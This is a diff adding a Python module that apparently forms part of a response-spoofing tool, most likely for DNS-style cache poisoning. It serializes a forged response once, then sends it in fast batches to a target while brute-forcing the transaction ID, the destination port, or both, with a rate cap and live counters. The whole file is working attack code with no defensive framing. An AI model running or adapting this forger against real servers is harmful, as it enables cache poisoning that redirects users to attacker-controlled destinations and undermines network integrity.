@@ -0,0 +1,167 @@
+#! /usr/bin/env python3
+
+'''
+    Forged-response generator: the response is serialized once into a bytearray template and only
+    the transaction ID (struct.pack_into) or the destination port changes between two packets.
+    The packets go out in batches (sendmmsg slots when a BatchIO backend is given), optionally
+    capped at a packets/sec rate, with live counters of the packets sent and the achieved rate.
+'''
+
+import struct
+import time
+
+from Helper import BatchIO
+from Helper.Helper import Helper
+from Helper.Helper import MSG_TYPES
+
+SHORT = struct.Struct('!H')     # transaction ID / port number, network order
+BATCH_SIZE = 64             # packets per batch on the plain socket path
+PROGRESS_INTERVAL = 1.0     # seconds between two progress lines
+
+MODE_REQUEST_ID = 'rid'     # same destination, the candidates are transaction IDs
+MODE_PORT_NUMBER = 'rport'  # same packet, the candidates are destination ports
+MODE_BOTH = 'both'          # the candidates are (request ID << 16) | destination port
+MODE_NAMES = {MODE_REQUEST_ID: 'request IDs', MODE_PORT_NUMBER: 'port numbers', MODE_BOTH: 'request ID x port numbers'}
+
+
+class Forger():
+    '''
+        One forging run against addr, sock is anything with sendto (a socket or an asyncio transport).
+    '''
+
+    def __init__(self, response, addr, sock, mode, rate=0, batchIO=None, batchSize=BATCH_SIZE, countForged=None, progress=True):
+        '''
+            response: the whole response (MODE_PORT_NUMBER) or the response without its transaction ID (MODE_REQUEST_ID, MODE_BOTH).
+            rate: packets/sec cap, 0: as fast as possible, progress: print the live counters every PROGRESS_INTERVAL.
+        '''
+
+        self.addr = addr
+        self.sock = sock
+        self.mode = mode
+        self.rate = rate
+        self.countForged = countForged
+        self.progress = progress
+        self.template = bytearray(response) if mode == MODE_PORT_NUMBER else bytearray(2) + response
+        self.batchIO = batchIO if batchIO is not None and batchIO.batched else None
+        self.batchSize = self.batchIO.batchSize if self.batchIO is not None else batchSize
+        self.addressView = None
+        self.sent = 0
+        self.started = time.perf_counter()
+        self.lastProgress = self.started
+        if self.batchIO is not None:
+            self.prepareSlots()
+
+    def prepareSlots(self):
+        '''
+            Copy the template into every sendmmsg slot once, the batches only patch the ID or the port.
+        '''
+
+        length = len(self.template)
+        sending = self.batchIO.sending
+        for i in range(self.batchSize):
+            self.batchIO.sendViews[i][:length] = self.template
+            sending.iovecs[i].iov_len = length
+            sending.setAddress(i, self.addr)
+        if self.mode != MODE_REQUEST_ID:
+            self.addressView = sending.getAddressView()
+
+    def getBatches(self, candidates):
+        batch = []
+        for candidate in candidates:
+            batch.append(candidate)
+            if len(batch) == self.batchSize:
+                yield batch
+                batch = []
+        if batch:
+            yield batch
+
+    def sendBatch(self, candidates):
+        '''
+            Send one packet per candidate (at most batchSize), return the number of packets sent.
+        '''
+
+        if self.batchIO is not None:
+            if self.mode == MODE_REQUEST_ID:
+                views = self.batchIO.sendViews
+                for i, requestId in enumerate(candidates):
+                    SHORT.pack_into(views[i], 0, requestId)
+            elif self.mode == MODE_PORT_NUMBER:
+                addressView = self.addressView
+                for i, portNumber in enumerate(candidates):
+                    SHORT.pack_into(addressView, i * BatchIO.SOCKADDR_SIZE + BatchIO.PORT_OFFSET, portNumber)
+            else:
+                views = self.batchIO.sendViews
+                addressView = self.addressView
+                for i, candidate in enumerate(candidates):
+                    SHORT.pack_into(views[i], 0, candidate >> 16)
+                    SHORT.pack_into(addressView, i * BatchIO.SOCKADDR_SIZE + BatchIO.PORT_OFFSET, candidate & 0xffff)
+            sent = self.batchIO.sendSlots(len(candidates))
+
+        elif self.mode == MODE_REQUEST_ID:
+            template = self.template
+            sendto = self.sock.sendto
+            addr = self.addr
+            for requestId in candidates:
+                SHORT.pack_into(template, 0, requestId)
+                sendto(template, addr)
+            sent = len(candidates)
+
+        elif self.mode == MODE_PORT_NUMBER:
+            template = self.template
+            sendto = self.sock.sendto
+            ip = self.addr[0]
+            for portNumber in candidates:
+                sendto(template, (ip, portNumber))
+            sent = len(candidates)
+
+        else:
+            template = self.template
+            sendto = self.sock.sendto
+            ip = self.addr[0]
+            for candidate in candidates:
+                SHORT.pack_into(template, 0, candidate >> 16)
+                sendto(template, (ip, candidate & 0xffff))
+            sent = len(candidates)
+
+        self.sent += sent
+        if self.countForged is not None:
+            self.countForged(sent)
+
+        return sent
+
+    def getDelay(self):
+        '''
+            Seconds to wait before the next batch to stay under the rate cap, prints the progress line when due.
+        '''
+
+        now = time.perf_counter()
+        if self.progress and now - self.lastProgress >= PROGRESS_INTERVAL:
+            self.lastProgress = now
+            self.printProgress()
+        if not self.rate:
+            return 0
+
+        return max(0.0, self.started + self.sent / self.rate - now)
+
+    def getRate(self):
+        return self.sent / max(time.perf_counter() - self.started, 1e-9)
+
+    def printProgress(self, done=False):
+        Helper.printOnScreenAlways('%s %s: %d packets to %s, %.0f packets/sec%s' % (
+            'Forged' if done else 'Forging', MODE_NAMES[self.mode],
+            self.sent, self.addr[0], self.getRate(), ' (cap %.0f)' % self.rate if self.rate else ''), MSG_TYPES.YELLOW)
+
+    def run(self, candidates):
+        '''
+            Blocking run over all the candidates, return the number of packets sent.
+        '''
+
+        for batch in self.getBatches(candidates):
+            self.sendBatch(batch)
+            delay = self.getDelay()
+            if delay:
+                time.sleep(delay)
+        if self.progress:
+            self.printProgress(done=True)
+
+        return self.sent